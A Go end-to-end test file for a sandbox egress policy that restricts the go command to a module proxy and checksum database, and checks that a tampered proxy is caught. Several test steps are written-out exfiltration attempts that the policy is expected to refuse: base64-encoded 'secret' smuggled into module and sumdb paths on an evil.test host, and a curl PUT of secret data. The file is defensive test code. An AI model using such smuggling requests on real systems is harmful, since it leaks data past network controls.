package e2e

import (
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// goCommand is the go command that runs these tests.
func goCommand(t *testing.T) string {
	t.Helper()
	root, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		t.Fatal(err)
	}
	return filepath.Join(strings.TrimSpace(string(root)), "bin", "go")
}

// goProject writes a package that depends on the module greet and a program that needs
// little of the standard library, so that there is little to compile. It lies in a git
// repository, which the go command looks at.
func goProject(w *world) {
	w.t.Helper()
	w.work("go.mod", "module app\n\ngo 1.24\n\nrequire (\n\texample.com/Team/greet v1.2.0\n\texample.com/word/v2 v2.0.1 // indirect\n\told.example.com/lib v2.0.0+incompatible // indirect\n)\n")
	w.work("main.go", "package main\n\nimport \"app/greeting\"\n\nfunc main() { println(greeting.Text()) }\n")
	w.direct(command("mkdir", "greeting")).wantExit(0)
	w.work("greeting/text.go", "package greeting\n\nimport \"example.com/Team/greet\"\n\nfunc Text() string { return greet.Greet() }\n")
	w.direct(shell("git init -q && git add -A && git -c user.name=Dev -c user.email=dev@example.com commit -qm first")).wantExit(0)
}

func goPolicy(sumdb string) string {
	return fmt.Sprintf(`version = 1

use "go" {
  proxy   = "https://%s"
  sumdb   = %q
  modules = ["example.com/Team", "example.com/word", "old.example.com"]
}
`, goHost, sumdb)
}

// TestPresetGo downloads modules and checks them against the database, builds, and is
// refused what else could be asked of the proxy.
func TestPresetGo(t *testing.T) {
	for _, u := range users(t) {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			w.policy(goPolicy(startModuleProxy(w, goModules(), goModules())))
			goProject(w)
			tool := goCommand(t)
			if !strings.HasPrefix(tool, "/usr/") {
				w.flags = append(w.flags, "--ro", filepath.Dir(filepath.Dir(tool)))
			}
			build := " build -v ./greeting"
			if u.uid != 0 { // a program takes the runtime, and the runtime takes long
				build = " build -v -o app . && ./app 2>&1 | grep 'drained well'"
			}
			a := w.control(shell(tool + " env GOPROXY GOTOOLCHAIN && " + tool + " mod download all && cat go.sum && CGO_ENABLED=0 " + tool + build)).
				wantStdout("https://" + goHost + "/\nlocal").wantStdout("example.com/word/v2 v2.0.1 h1:").wantStderr("app/greeting")
			a.wantAllowed(len(a.received))
			asked := map[string]bool{}
			for _, e := range a.received {
				asked[strings.ReplaceAll(e.URI, "%2B", "+")] = true
				if got := e.Header.Get("User-Agent"); got != "go (scupper)" {
					t.Errorf("%s has User-Agent %q", e.URI, got)
				}
			}
			for _, path := range []string{
				"/example.com/!team/greet/@v/v1.2.0.zip", "/example.com/word/v2/@v/v2.0.1.mod", "/old.example.com/lib/@v/v2.0.0+incompatible.zip",
				"/sumdb/sum.example.com/supported", "/sumdb/sum.example.com/lookup/example.com/!team/greet@v1.2.0",
				"/sumdb/sum.example.com/lookup/old.example.com/lib@v2.0.0+incompatible",
			} {
				if !asked[path] {
					t.Errorf("%s was not asked for", path)
				}
			}

			// Elsewhere, or the command reads the project's own modules first.
			get := func(module string) client { return shell("cd && " + tool + " list -m " + module) }
			w.control(get("example.com/word/v2@latest")).wantStdout("example.com/word/v2 v2.0.1")
			w.attack(get("evil.test/c2vjcmv0@latest")).wantFailure().wantReasons("http path_not_granted " + goHost).farSideNothing().wantStderr("403 Forbidden")
			w.attack(curl("-X", "PUT", "-H", "Content-Type: application/zip", "-d", "secret", "https://"+goHost+"/example.com/word/v2/@v/v2.0.1.zip")).refused(403, "method_not_granted")
			w.attack(curl("https://"+goHost+"/sumdb/"+sumName+"/lookup/evil.test/c2VjcmV0@v1.0.0")).refused(403, "path_not_granted")
			w.attack(curl("https://"+goHost+"/example.com/word/v2/@v/master.info")).refused(403, "path_not_granted")
			const absent = "GET https://" + goHost + "/example.com/!team/absent/@v/v1.0.0.info"
			w.attack(shell("cd && "+tool+" mod download example.com/Team/absent@v1.0.0")).wantFailure().wantStderr("404 Not Found").
				farSide(absent, absent).wantAllowed(2) // the command asks again
		})
	}
}

// TestPresetGoTampered: a proxy that lies is found out by the checksum database that
// it passes on.
func TestPresetGoTampered(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	modules := goModules()
	modules[1].source = "package word\n\nconst Word = \"tampered\"\n"
	w.policy(goPolicy(startModuleProxy(w, modules, goModules())))
	goProject(w)
	a := w.attack(shell(goCommand(t) + " mod download all")).wantFailure().wantStderr("SECURITY ERROR")
	a.looked[farSide] = true // it is granted, and serves
	a.wantAllowed(len(a.received))
}
